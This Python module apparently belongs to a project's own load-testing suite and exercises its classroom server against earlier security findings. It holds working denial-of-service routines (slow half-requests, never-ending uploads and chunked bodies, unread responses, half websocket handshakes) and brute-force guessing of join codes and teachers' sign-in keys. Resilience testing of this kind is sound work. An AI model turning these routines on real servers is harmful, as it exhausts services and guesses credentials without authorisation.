"""Those who abuse what is asked by HTTP (findings 6, 7 and 16)."""

import os
import re
import selectors
import socket
import time
import urllib.error
import urllib.parse
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from urllib.parse import urlsplit

from bench.load.attackers.foe import LESSON, PATIENCE, Foe, upgrade
from reefkit.serve.visitors import XSRF_COOKIE

BODIES = 40
LARGE = 47 * 2**20
HALVES, UNREAD = 1000, 500
PAUSE = 0.02
ASKED = 40
"""Requests over one connection, one after the other, so that the answers fill what the systems hold."""
PIECE = bytes(2**18)
EVERY = 1.0
"""Seconds between two signs of life of a connection that is kept half open."""


@contextmanager
def many_files() -> Iterator[None]:
    """Let this process open as many files as the system allows, for a while."""
    import resource  # noqa: PLC0415  # Windows has none

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


class Crowd:
    """Many connections that never come to an end.

    Parameters
    ----------
    foe
        Whose they are.
    most
        How many at once.
    begin
        Gives what each says first.
    more
        Gives what each says then, all at once or every second; None ends it.
    addresses
        From how many addresses of this machine they come.
    """

    def __init__(self, foe: Foe, most: int, begin: Callable[[], bytes], addresses: int = 1) -> None:
        self.foe, self.most, self._begin, self._addresses = foe, most, begin, addresses
        self.open: dict[socket.socket, int] = {}
        self._selector = selectors.DefaultSelector()
        place = urlsplit(foe.url)
        self._place = (place.hostname or "", place.port or 80)
        self._made = 0

    def fill(self, at_once: int = 50) -> None:
        """Connect until there are as many as wanted."""
        for _ in range(min(at_once, self.most - len(self.open))):
            self._made += 1
            source = (f"127.0.0.{1 + self._made % self._addresses}", 0)
            try:
                made = socket.create_connection(self._place, 1.0, source_address=source)
                made.sendall(self._begin())
            except OSError as error:
                self.foe.noted[f"refused {type(error).__name__}"] += 1
                time.sleep(0.01)
                return
            made.setblocking(False)
            self.open[made] = 0
            self._selector.register(made, selectors.EVENT_READ)
        self.foe.noted["open at once"] = max(self.foe.noted["open at once"], len(self.open))

    def hear(self, wait: float = 0.0) -> None:
        """Take what the server says, and note whom it closed."""
        for key, _ in self._selector.select(wait):
            made = key.fileobj
            assert isinstance(made, socket.socket)
            try:
                came = made.recv(65536)
            except OSError:
                came = b""
            if came.startswith(b"HTTP/1.1 "):
                self.foe.noted[f"status {came[9:12].decode(errors='replace')}"] += 1
            if not came:
                self.drop(made)

    def say(self, piece: bytes, most: int) -> None:
        """Have each say more, as much as its connection takes, until each has said so much."""
        for made, said in list(self.open.items()):
            if said >= most:
                continue
            try:
                self.open[made] = said + made.send(piece[: most - said])
            except BlockingIOError:
                pass
            except OSError:
                self.drop(made)

    def drop(self, made: socket.socket) -> None:
        """Let go of one."""
        self.foe.noted["closed by the server"] += 1
        self._selector.unregister(made)
        del self.open[made]
        made.close()

    def close(self) -> None:
        for made in self.open:
            made.close()
        self._selector.close()


def unfinished_posts(foe: Foe) -> None:
    """Post forty bodies of 47 MB, to any address, and keep the last byte of each."""
    with suppress(OSError):
        foe.get("")  # half of them have a visitor's cookies
    cookies = "; ".join(f"{each.name}={each.value}" for each in foe.cookies)
    number = 0

    def begin() -> bytes:
        nonlocal number
        number += 1
        path = ("/", "/nowhere/", "/join/", "/teachers-desk/restore/")[number % 4]
        cookie = f"Cookie: {cookies}\r\n" if number % 2 else ""
        kind = "multipart/form-data; boundary=x" if number % 3 else "application/octet-stream"
        lines = f"Host: x\r\n{cookie}Content-Type: {kind}\r\nContent-Length: {LARGE}\r\n\r\n"
        return f"POST {path} HTTP/1.1\r\n{lines}".encode()

    _pour(foe, Crowd(foe, BODIES, begin), PIECE, LARGE - 1)


def chunked_bodies(foe: Foe) -> None:
    """Post bodies in chunks that say nothing of how long the whole is, and never end."""
    piece = f"{len(PIECE):x}\r\n".encode() + PIECE + b"\r\n"

    def begin() -> bytes:
        return b"POST /nowhere/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + piece

    crowd = Crowd(foe, BODIES, begin)
    while foe.goes_on:
        crowd.fill()
        for made in list(crowd.open):
            try:
                made.setblocking(True)
                made.settimeout(1.0)
                made.sendall(piece)
                made.setblocking(False)
            except OSError:
                crowd.drop(made)
        crowd.hear()
    crowd.close()


def _pour(foe: Foe, crowd: Crowd, piece: bytes, most: int) -> None:
    while foe.goes_on:
        crowd.fill()
        crowd.say(piece, most)
        crowd.hear(0.005)
    crowd.close()


def _dribble(foe: Foe, crowd: Crowd, drop: bytes) -> None:
    """Keep connections open by a few letters now and then."""
    with many_files():
        said = time.monotonic()
        while foe.goes_on:
            crowd.fill()
            if time.monotonic() > said + EVERY:
                said = time.monotonic()
                crowd.say(drop, LARGE)
            crowd.hear(0.02)
        crowd.close()


def half_requests(foe: Foe) -> None:
    """Begin a thousand requests, and end none."""
    _dribble(foe, Crowd(foe, HALVES, lambda: b"GET / HTTP/1.1\r\nHost: x\r\n"), b"X-A: a\r\n")


def half_requests_from_everywhere(foe: Foe) -> None:
    """Begin two thousand requests, from forty addresses."""
    crowd = Crowd(foe, 2 * HALVES, lambda: b"GET / HTTP/1.1\r\nHost: x\r\n", addresses=40)
    _dribble(foe, crowd, b"X-A: a\r\n")


def silent_connections(foe: Foe) -> None:
    """Connect a thousand times, and say nothing, or ask once and stay."""
    whole = b"GET /mark.svg HTTP/1.1\r\nHost: x\r\n\r\n"
    number = 0

    def begin() -> bytes:
        nonlocal number
        number += 1
        return whole if number % 2 else b""

    _dribble(foe, Crowd(foe, HALVES, begin), b"")


def unread_answers(foe: Foe) -> None:
    """Ask over five hundred connections for megabytes of script, and read nothing of them."""
    place = urlsplit(foe.url)
    html = foe.get(LESSON).decode()
    scripts = re.findall(r'"(/voila/static/[^"]+\.js)"', html) or ["/"]
    sizes = {path: len(foe.get(path[1:])) for path in set(scripts[:12])}
    path = max(sizes, key=lambda each: sizes[each])
    foe.noted[f"bytes of {path}"] = sizes[path]
    foe.ends = time.monotonic() + foe.seconds
    whole = f"GET {path} HTTP/1.1\r\nHost: {place.netloc}\r\n\r\n".encode()
    crowd = Crowd(foe, UNREAD, lambda: whole * ASKED)
    with many_files():
        while foe.goes_on:
            crowd.fill()
            time.sleep(PAUSE)
        crowd.close()


def half_handshakes(foe: Foe) -> None:
    """Begin a thousand websockets to one's own kernel, and end no handshake."""
    page = foe.page()
    if page is None:
        return
    path = f"/api/kernels/{page.kernel}/channels?session_id={page.session}"
    whole = upgrade(foe.url, path, page.cookie)
    _dribble(foe, Crowd(foe, HALVES, lambda: whole[:-2]), b"X-A: a\r\n")
    with suppress(OSError):
        page.leave()


# -- guessing ------------------------------------------------------------------------------------
def _post_all(foe: Foe, path: str, form: Callable[[], dict[str, str]]) -> None:
    """Post a form as fast as the server answers."""
    with suppress(OSError):
        foe.get(path)
    while foe.goes_on:
        token = next((each.value for each in foe.cookies if each.name == XSRF_COOKIE), "") or ""
        data = urllib.parse.urlencode({"_xsrf": token, **form()}).encode()
        try:
            foe.get(path, data)
            foe.noted["status 200"] += 1
        except urllib.error.HTTPError as error:
            foe.noted[f"status {error.code}"] += 1
        except OSError as error:
            foe.noted[f"refused {type(error).__name__}"] += 1
            time.sleep(min(0.1, PATIENCE))


def _letters(count: int) -> str:
    return os.urandom(count).hex().upper()[:count]


def wrong_codes(foe: Foe) -> None:
    _post_all(foe, "join/", lambda: {"code": _letters(6)})


def wrong_keys(foe: Foe) -> None:
    """Guess at teachers' keys."""
    foe.noted["status 200"] += 0
    with suppress(OSError):
        foe.get("teachers-desk/")  # its page brings the cookies of the form
    _post_all(foe, "teachers-desk/sign-in/", lambda: {"key": _letters(20), "query": ""})


def joining_links(foe: Foe) -> None:
    """Ask for links to classes as fast as the server answers, right ones and wrong ones."""
    while foe.goes_on:
        for code in (foe.code or "AAAA", _letters(6)):
            try:
                foe.get(f"join/{code}/")
                foe.noted["status 200"] += 1
            except urllib.error.HTTPError as error:
                foe.noted[f"status {error.code}"] += 1
            except OSError as error:
                foe.noted[f"refused {type(error).__name__}"] += 1
